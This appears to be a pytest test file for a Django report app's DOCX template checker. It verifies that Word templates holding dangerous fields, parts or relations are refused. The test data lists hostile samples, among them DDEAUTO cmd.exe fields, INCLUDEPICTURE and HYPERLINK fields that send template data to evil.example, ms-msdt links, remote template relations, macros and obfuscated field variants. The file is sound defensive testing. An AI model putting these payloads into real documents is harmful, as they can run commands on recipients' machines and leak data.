"""What a Word file could fetch or start, by every way there is into one: refused, and named in a sentence."""

import io
import zipfile

import pytest
from django.urls import reverse

from apps.accounts.models import User
from apps.core.models import AuditEvent
from apps.reports.docx.allowed import is_allowed
from apps.reports.docx.checking import forbidden_in_written, template_problems
from apps.reports.docx.word import report_docx
from apps.reports.models import DocxTemplate, Report
from tests import factories
from tests.reports.documents import document
from tests.reports.docx.test_attacks import RELATIONS, TYPES, related, with_footnote
from tests.reports.docx.test_templates import SignIn, part, repacked, template, written_by

BODY, SETTINGS = "word/document.xml", "word/settings.xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
LINK = '<Relationship Id="rId77" Type="{}/{}" Target="{}" TargetMode="External"/>'


def code(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)


def complex_field(*pieces: str) -> str:
    return f"{BEGIN}{code(*pieces)}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}"


def with_body(xml: str, docx: bytes | None = None) -> bytes:
    docx = docx or template("{{ finding }}")
    body = part(docx, BODY).decode().replace("<w:body>", f"<w:body>{xml}", 1)
    return repacked(docx, {BODY: body.encode()})


def with_paragraph(runs: str) -> bytes:
    return with_body(f"<w:p>{runs}</w:p>")


def with_part(name: str, kind: str, content: bytes, relation: str = "") -> bytes:
    made = template("{{ finding }}")
    types = part(made, TYPES).replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    )
    made = repacked(made, {TYPES: types, name: content})
    target = name.removeprefix("word/")
    return (
        related(made, f'<Relationship Id="rId66" Type="{relation}" Target="{target}"/>') if relation else made
    )


def with_setting(xml: str) -> bytes:
    made = template("{{ finding }}")
    return repacked(
        made, {SETTINGS: part(made, SETTINGS).replace(b"</w:settings>", f"{xml}</w:settings>".encode())}
    )


@pytest.mark.parametrize(
    "harmless",
    [
        "PAGE",
        " page \\* MERGEFORMAT ",
        "NUMPAGES  \\# &quot;0&quot;",
        "DATE \\@ &quot;dd/MM/yyyy HH:mm&quot;",
        "TOC \\o &quot;1-3&quot; \\h \\z \\u",
        "STYLEREF &quot;Heading 1&quot;",
        "REF _Ref123 \\h",
        "SEQ Figure \\* ARABIC",
        "DOCPROPERTY Company",
        "HYPERLINK &quot;https://example.com/a?b=c&quot; \\o &quot;a tip&quot;",
        "HYPERLINK \\l &quot;_Toc1&quot;",
    ],
)
def test_a_harmless_field_stays(harmless: str) -> None:
    assert template_problems(with_paragraph(complex_field(harmless))) == []
    assert template_problems(with_paragraph(f'<w:fldSimple w:instr="{harmless}"/>')) == []


FIELDS = [
    "INCLUDEPICTURE &quot;http://evil.example/x.png?{{ finding }}&quot;",
    "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d",
    "INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\x.docx&quot;",
    "DDEAUTO cmd.exe &quot;/k calc&quot;",
    "DDE cmd.exe calc",
    "ddeauto cmd calc",
    "&#68;DE cmd calc",
    "HYPERLINK &quot;ms-msdt:/id&quot;",
    "HYPERLINK &quot;file:///etc/passwd&quot;",
    "HYPERLINK &quot;\\\\\\\\host\\\\share&quot;",
    "HYPERLINK &quot;https://evil.example/?{{ finding }}&quot;",
    "PAGE {{ decision_reason }}",
    "PAGE DDEAUTO cmd calc",
    "REF x DDEAUTO cmd calc",
    "TOC \\o INCLUDEPICTURE \\b http://evil.example/x",
    "IF 1 = 1 yes no",
    "MACROBUTTON AutoOpen here",
    "GOTOBUTTON x y",
    "DATABASE \\d c",
    "IMPORT c.png",
    "LINK Excel.Sheet x",
    "EMBED Excel.Sheet",
    "RD c.docx",
    "QUOTE x",
    "AUTOTEXT x",
    "FILLIN x",
    "MERGEFIELD x",
    "_Ref123",
]


@pytest.mark.parametrize("forbidden", FIELDS)
def test_a_field_that_is_not_on_the_list_is_named(forbidden: str) -> None:
    for runs in (
        complex_field(forbidden),
        f'<w:fldSimple w:instr="{forbidden}"/>',
        f"{BEGIN}{code(forbidden)}",
    ):
        (problem,) = template_problems(with_paragraph(runs))
        assert "is none that a template may hold: take it out in Word" in problem
        assert f"({BODY})" in problem
    # One letter a run.
    letters = forbidden.replace("&quot;", '"').replace("&#68;", "D")
    assert template_problems(with_paragraph(complex_field(*letters)))


HIDDEN = {
    "nested in a code": f"{BEGIN}{code('REF ')}{complex_field('PAGE')}{code(' x')}{SEPARATE}{END}",
    "nested in a result": f"{BEGIN}{code('PAGE')}{SEPARATE}{complex_field('DDE a b')}{END}",
    "split by a comment": complex_field("D<!-- x -->DE a b"),
    "split by an instruction": complex_field("D<?x y?>DE a b"),
    "in character data": complex_field("<![CDATA[DDE]]> a b"),
    "as text": f"{BEGIN}<w:r><w:t>DDE a b</w:t></w:r>{END}",
    "in simple field within another": '<w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="DDE a b"/></w:fldSimple>',
    "outside a field": code("DDE a b"),
    "an end too many": f"{complex_field('PAGE')}{END}",
    "another mark": '<w:r><w:fldChar w:fldCharType="Begin"/></w:r>',
    "half inserted": f'{BEGIN}<w:ins w:id="1" w:author="x">{code("PAGE ")}</w:ins>{code("DDE a b")}{END}',
    "whole inserted": f'<w:ins w:id="1" w:author="x">{complex_field("PAGE")}</w:ins>',
    "half deleted": f'{BEGIN}{code("PAGE")}<w:del w:id="1" w:author="x"><w:r><w:delInstrText>DDE</w:delInstrText></w:r></w:del>{END}',
    "half in a branch": (
        f'{BEGIN}<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="w14">{code("REF ")}</mc:Choice><mc:Fallback>{code("x")}</mc:Fallback></mc:AlternateContent>{END}'
    ),
    "in the other branch": (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="w14">{complex_field("PAGE")}</mc:Choice><mc:Fallback>{complex_field("DDE a b")}</mc:Fallback>'
        "</mc:AlternateContent>"
    ),
    "in a text box": f'<w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent><w:p>{complex_field("DDE a b")}</w:p></w:txbxContent></v:textbox></w:pict></w:r>',
    "in the other namespace": '<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main" x:instr="DDE a b"/>',
}  # fmt: skip


@pytest.mark.parametrize("runs", HIDDEN.values(), ids=HIDDEN)
def test_no_way_of_writing_hides_a_field(runs: str) -> None:
    problems = template_problems(with_paragraph(runs))
    assert problems
    assert all("is none that a template may hold" in problem for problem in problems)


def test_fields_are_found_in_heads_footnotes_and_comments() -> None:
    head = template("{{ finding }}", header="HERE")
    (name,) = [each for each in ("word/header1.xml", "word/header2.xml") if each in names(head)]
    with_head = repacked(
        head, {name: part(head, name).replace(b"<w:t>HERE</w:t>", b"<w:instrText>DDE a b</w:instrText>")}
    )
    noted = with_footnote(
        template("{{ finding }}"), "x</w:t></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r><w:r><w:t>"
    )
    comments = f'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="1"><w:p>{complex_field("DDE a b")}</w:p></w:comment></w:comments>'
    commented = with_part(
        "word/comments.xml", f"{WORD}.comments+xml", comments.encode(), f"{RELATIONS}/comments"
    )
    for docx, where in ((with_head, name), (noted, "word/footnotes.xml"), (commented, "word/comments.xml")):
        (problem,) = template_problems(docx)
        assert f"“DDE a b” ({where})" in problem


def names(docx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        return package.namelist()


OLE = f"{RELATIONS}/oleObject"
PARTS = {
    "HTML to be taken in": with_part("word/a.html", "text/html", b"<img src=http://evil.example>", f"{RELATIONS}/aFChunk"),
    "HTML as plain XML": with_part("word/a.xml", "application/xml", b"<html/>", f"{RELATIONS}/aFChunk"),
    "an OLE object": with_part("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"x", OLE),
    "a workbook": with_part("word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"x", f"{RELATIONS}/package"),
    "macros": with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    "macros under another name": with_part("word/media/image9.png", "application/vnd.ms-office.vbaProject", b"x"),
    "macros as a picture": with_part("word/media/image9.png", "image/png", b"x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    "keys": with_part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", b"<x/>"),
    "a control": with_part("word/control.xml", "application/vnd.ms-office.activeX+xml", b"<x/>", f"{RELATIONS}/control"),
    "a drawing that is a program": with_part("word/media/a.svg", "image/svg+xml", b"<svg/>", f"{RELATIONS}/image"),
    "a web extension": with_part("word/webextensions/a.xml", "application/vnd.ms-office.webextension+xml", b"<x/>"),
    "what has no kind": repacked(template("x"), {"word/media/a.exe": b"MZ"}),
    "mail merge": with_part("word/recipientData.xml", f"{WORD}.mailMergeRecipientData+xml", b"<x/>"),
    "strict relations": related(template("x"), '<Relationship Id="rId9" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="a"/>'),
    "a sub-document": related(template("x"), LINK.format(RELATIONS, "subDocument", "https://evil.example/x.docx")),
    "another template": related(template("x"), LINK.format(RELATIONS, "attachedTemplate", "https://evil.example/x.dotm")),
    "a frame": related(template("x"), LINK.format(RELATIONS, "frame", "https://evil.example")),
    "a kind that only ends so": related(template("x"), LINK.format("http://evil", "hyperlink", "https://evil.example")),
    "a protocol of the system": related(template("x"), LINK.format(RELATIONS, "hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "a share": related(template("x"), LINK.format(RELATIONS, "hyperlink", "\\\\host\\share")),
    "a file": related(template("x"), LINK.format(RELATIONS, "hyperlink", "file:///c:/x")),
    "another spelling of the mode": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="https://evil.example" TargetMode="external "/>'),
    "an inner target that leads out": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="https://evil.example/x.png"/>'),
    "the relation of a picture to a share": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="//host/x.png"/>'),
}  # fmt: skip


@pytest.mark.parametrize("docx", PARTS.values(), ids=PARTS)
def test_no_part_and_no_relation_is_let_in_but_those_on_the_list(docx: bytes) -> None:
    problems = template_problems(docx)
    assert problems
    assert any("ake it out" in each or "Take out" in each or "put pictures" in each for each in problems)


ELEMENTS = {
    "altChunk": with_body('<w:altChunk xmlns:r="x" r:id="rId66"/>'),
    "subDoc": with_body('<w:subDoc xmlns:r="x" r:id="rId66"/>'),
    "object": with_paragraph("<w:r><w:object/></w:r>"),
    "OLEObject": with_paragraph('<w:r><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r>'),
    "imagedata": with_paragraph('<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x"/></w:pict></w:r>'),
    "shape": with_paragraph('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://host/x"/></w:pict></w:r>'),
    "docPr": with_paragraph('<w:r><wp:docPr xmlns:wp="x" descr="{{ finding }}"/></w:r>'),
    "attachedTemplate": with_setting('<w:attachedTemplate xmlns:r="x" r:id="rId1"/>'),
    "mailMerge": with_setting('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'),
    "saveThroughXslt": with_setting("<w:saveThroughXslt/>"),
    "entryMacro": with_paragraph('<w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r>'),
    "HyperlinkBase": repacked(template("x"), {"docProps/app.xml": part(template("x"), "docProps/app.xml").replace(b"<HyperlinkBase/>", b"<HyperlinkBase>file://host/</HyperlinkBase>")}),
    "frameset": repacked(template("x"), {"word/webSettings.xml": b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset><w:frame><w:sourceFileName/></w:frame></w:frameset></w:webSettings>'}),
}  # fmt: skip


@pytest.mark.parametrize(("what", "docx"), ELEMENTS.items(), ids=ELEMENTS)
def test_an_element_that_fetches_is_named(what: str, docx: bytes) -> None:
    assert any(f"“{what}”" in each and "ake it out" in each for each in template_problems(docx))


def test_an_ordinary_link_stays() -> None:
    for address in ("https://example.com/a?b=c", "http://example.com", "MAILTO:ines@example.com"):
        assert (
            template_problems(
                related(template("{{ finding }}"), LINK.format(RELATIONS, "hyperlink", address))
            )
            == []
        )


def test_what_people_typed_makes_no_field() -> None:
    typed = '</w:t></w:r><w:fldSimple w:instr="DDE a b"/> { DDE a b } ' + "{{ finding }}"
    made = report_docx(
        document(decision={"reason": typed}),
        number=1,
        fingerprint="f",
        template=template("{{ decision_reason }}"),
    )
    assert forbidden_in_written(made) == []
    assert typed in written_by(template("{{ decision_reason }}"), document(decision={"reason": typed}))


@pytest.mark.django_db
def test_a_template_of_before_is_not_handed_on(signed_in: SignIn, carol: User, report: Report) -> None:
    DocxTemplate.objects.create(
        organisation=report.organisation,
        name="own.docx",
        docx=with_paragraph(complex_field("INCLUDEPICTURE &quot;http://evil.example/{{ finding }}&quot;")),
        sha256="0" * 64,
        uploaded_at=factories.NOW,
    )
    browser = signed_in(carol)
    answer = browser.get(reverse("report_docx", args=[report.pk]), follow=True)
    assert answer.redirect_chain == [(reverse("report", args=[report.pk]), 302)]
    assert "INCLUDEPICTURE" in answer.text
    assert "An owner of your organisation can replace the template." in answer.text
    assert not AuditEvent.objects.filter(verb="download_report_docx").exists()


def test_a_tag_in_a_code_is_refused_but_around_a_field_it_stays() -> None:
    split = (
        f"{BEGIN}<w:r><w:t>{{%r if not finding %}}</w:t></w:r>{code('REF ')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
        f"{code('AUTOTEXT')}{END}"
    )
    assert template_problems(with_paragraph(split))
    around = f"<w:r><w:t>{{%r if finding %}}</w:t></w:r>{complex_field('PAGE')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
    assert template_problems(with_paragraph(around)) == []
    made = report_docx(document(), number=1, fingerprint="f", template=with_paragraph(around))
    assert b"PAGE" in part(made, BODY)
    assert forbidden_in_written(made) == []


def test_switches_take_one_value_and_names_are_one() -> None:
    assert is_allowed('TOC \\o "1-3" \\t "Own,1"')
    assert not is_allowed("")
    assert not is_allowed('"PAGE"')
    assert not is_allowed("PAGE a b")
    assert not is_allowed('REF "http://evil.example"')
    assert not is_allowed("PAGE \\")
